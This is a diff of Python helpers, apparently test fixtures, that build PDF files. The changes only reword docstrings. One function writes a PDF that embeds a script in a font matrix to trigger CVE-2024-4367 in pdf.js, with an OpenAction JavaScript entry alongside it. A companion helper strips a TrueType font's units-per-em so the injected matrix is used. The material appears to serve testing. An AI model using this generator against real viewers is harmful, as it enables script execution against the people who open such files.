@@ -37,7 +37,7 @@ def written(path: Path, objects: list[bytes], trailer: str = "") -> Path:
 
 
 def pages(contents: list[bytes]) -> list[bytes]:
-    """Returns the objects of a document with these pages, whose text is in Helvetica, which the file does not contain."""
+    """Returns the objects of a document with these pages. Their text is in Helvetica, which the document does not contain."""
     first = 4
     kids = " ".join(f"{first + 2 * at} 0 R" for at in range(len(contents)))
     objects = [
@@ -96,8 +96,8 @@ def rc4(key: bytes, content: bytes) -> bytes:
 
 
 def hostile(path: Path, font: Path, script: str) -> Path:
-    """Writes a PDF whose font has a script in its matrix (CVE-2024-4367). Painting a letter of it as a path runs the script in a pdf.js
-    that may evaluate texts. Other programs in it would run when it is opened."""
+    """Writes a PDF whose font has a script in its matrix (CVE-2024-4367). If pdf.js may evaluate strings, it runs the script when
+    it paints a letter of the font as a path. Further scripts in the PDF would run when it is opened."""
     objects = pages([b"7 Tr BT /F 60 Tf 20 200 Td (A) Tj ET"])
     objects[0] = f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS({script})>>>>".encode()
     matrix = f"[0.001 0 0 0.001 0 (0\\); {script}; //)]"
@@ -115,7 +115,7 @@ def hostile(path: Path, font: Path, script: str) -> Path:
 
 
 def without_size(font: bytes) -> bytes:
-    """Returns a TrueType font that names no number of units per em. Only for such a font, pdf.js uses the matrix in the PDF."""
+    """Returns a TrueType font without a number of units per em. pdf.js uses the matrix in the PDF only for such a font."""
     changed = bytearray(font)
     for entry in range(12, 12 + 16 * int.from_bytes(font[4:6], "big"), 16):
         if font[entry : entry + 4] == b"head":
